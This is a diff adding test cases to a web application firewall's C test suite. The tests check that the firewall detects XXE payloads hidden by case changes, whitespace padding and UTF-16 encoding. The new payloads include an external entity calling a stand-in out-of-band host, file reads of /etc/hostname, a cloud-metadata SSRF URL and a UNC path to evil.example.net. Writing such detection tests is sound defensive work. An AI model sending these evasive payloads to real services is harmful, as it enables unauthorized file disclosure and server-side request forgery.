@@ -160,6 +160,50 @@ static void engine_tests(apr_pool_t *p)
     CHECK_STR(post(p, e, "text/xml", "<doc xmlns:xi=\"http://www.w3.org/2001/"
                    "XInclude\"><xi:include parse=\"text\" href=\"/etc/hostname\"/>"
                    "</doc>", LW_CAT_LFI, &res), "body:xml:/doc@xmlns:xi");
+    /* as an attacker writes it: case, line breaks and no blanks where
+     * XML allows none, a long comment before it, padding inside it */
+    CHECK_STR(post(p, e, "text/xml", "<!DocType\n\tr[\n<!eNtItY%x\tSYSTEM\n"
+                   "'http://oob.example.net/x'>%x;]><r/>", LW_CAT_LFI, &res),
+              "body:xml:!doctype");
+    {
+        char *pad = apr_palloc(p, 12001);
+        memset(pad, ' ', 12000);
+        pad[12000] = '\0';
+        CHECK_STR(post(p, e, "text/xml", apr_pstrcat(p, "<?xml version=\"1.0\""
+                       "?><!--", pad, "--><!DOCTYPE r [", pad, "<!ENTITY e "
+                       "SYSTEM \"file:///etc/hostname\">]><r>&e;</r>", NULL),
+                       LW_CAT_LFI, &res), "body:xml:!doctype");
+    }
+    {
+        /* UTF-16LE with its byte order mark */
+        static const char ascii[] = "<?xml version=\"1.0\" encoding=\"UTF-16\""
+            "?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>"
+            "<r>&e;</r>";
+        apr_size_t i, n = sizeof(ascii) - 1;
+        char *w = apr_pcalloc(p, 2 * n + 2);
+        lw_request_t req;
+        memcpy(w, "\xff\xfe", 2);
+        for (i = 0; i < n; i++)
+            w[2 + 2 * i] = ascii[i];
+        memset(&req, 0, sizeof(req));
+        req.method = "POST";
+        req.uri = "/app/soap";
+        req.protocol = "HTTP/1.1";
+        req.body = w;
+        req.body_len = 2 * n + 2;
+        req.body_type = "text/xml; charset=utf-16";
+        CHECK(lw_classify(e, &req, NULL, p, &res));
+        CHECK(res.nhits > 0 && (res.categories & (1u << LW_CAT_LFI)));
+        for (i = 0; i < (apr_size_t)res.nhits; i++)
+            if (res.hits[i].category == LW_CAT_LFI)
+                CHECK_STR(res.hits[i].field, "body:xml:!doctype");
+    }
+    CHECK_STR(post(p, e, "application/json", "{\"src\": \"HTTP:\\/\\/169.254."
+                   "169.254\\/latest\\/\"}", LW_CAT_RFI, &res),
+              "body:json:$.src");
+    CHECK_STR(post(p, e, "application/json", "{\"tpl\": \"\\\\\\\\evil.example"
+                   ".net\\\\share\\\\x.php\"}", LW_CAT_RFI, &res),
+              "body:json:$.tpl");
     /* benign: public DTDs, no entity; SOAP and feeds without a DOCTYPE */
     CHECK_STR(post(p, e, "application/xml", "<?xml version=\"1.0\" encoding="
                    "\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST "
